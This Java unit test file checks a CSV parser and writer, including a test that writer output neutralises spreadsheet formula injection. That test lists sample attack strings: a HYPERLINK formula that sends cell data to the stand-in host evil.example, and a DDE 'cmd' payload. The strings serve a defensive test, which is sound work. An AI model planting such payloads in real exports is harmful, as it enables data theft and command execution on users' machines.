package uk.sendplan.api.system;

import org.junit.jupiter.api.Test;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class CsvTest {

    @Test
    void parsesQuotedCommasQuotesAndLineBreaksKeepingTheStartingLine() {
        List<Csv.Row> rows = Csv.parse("a,b,c\r\n\"x, y\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n1,,3\n");
        assertThat(rows).containsExactly(
                new Csv.Row(1, List.of("a", "b", "c")),
                new Csv.Row(2, List.of("x, y", "say \"hi\"", "two\nlines")),
                new Csv.Row(4, List.of("1", "", "3")));
    }

    @Test
    void keepsTrailingEmptyFieldsAndSkipsBlankLines() {
        assertThat(Csv.parse("a,\n\n,b")).containsExactly(new Csv.Row(1, List.of("a", "")), new Csv.Row(3, List.of("", "b")));
    }

    @Test
    void refusesAnUnclosedQuoteNamingItsLine() {
        assertThatThrownBy(() -> Csv.parse("a\n\"b\nc")).hasMessage("a quoted field opened on line 2 is never closed");
    }

    @Test
    void decodesUtf8WithOrWithoutBomAndFallsBackToWindows1252() {
        assertThat(Csv.decode("\uFEFFcafé".getBytes(StandardCharsets.UTF_8))).isEqualTo("café");
        assertThat(Csv.decode("St Mary’s".getBytes(Charset.forName("windows-1252")))).isEqualTo("St Mary’s");
    }

    @Test
    void writesLinesQuotingOnlyWhatNeedsIt() {
        assertThat(Csv.line(Arrays.asList("plain", "with,comma", "with \"quote\"", null, 42)))
                .isEqualTo("plain,\"with,comma\",\"with \"\"quote\"\"\",,42");
        assertThat(Csv.parse(Csv.line(List.of("a,b", "c\"d"))).getFirst().fields()).containsExactly("a,b", "c\"d");
    }

    @Test
    void neutralisesTextThatASpreadsheetWouldRunAsAFormula() {
        // OWASP CSV injection: = + - @ tab and carriage return start a formula; the cell gets a leading quote
        List<String> attacks = List.of("=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")", "-2+3+cmd|' /C calc'!A0", "+1", "@SUM(A1)",
                "\t=1", "\r=1");
        List<String> written = Csv.parse(Csv.line(attacks)).getFirst().fields();
        for (int i = 0; i < attacks.size(); i++) {
            assertThat(written.get(i)).isEqualTo("'" + attacks.get(i));
        }
        assertThat(Csv.line(List.of("=1,2"))).isEqualTo("\"'=1,2\"");
        assertThat(Csv.line(List.of("Plain Name", "O'Brien", "a-b", ""))).isEqualTo("Plain Name,O'Brien,a-b,");
    }

    @Test
    void writesTheServicesOwnNumbersAsNumbersEvenWhenNegative() {
        assertThat(Csv.line(Arrays.asList(new java.math.BigDecimal("-1200.00"), -3, -4L, new java.math.BigDecimal("1E+3"), 2.5)))
                .isEqualTo("-1200.00,-3,-4,1000,2.5");
    }
}
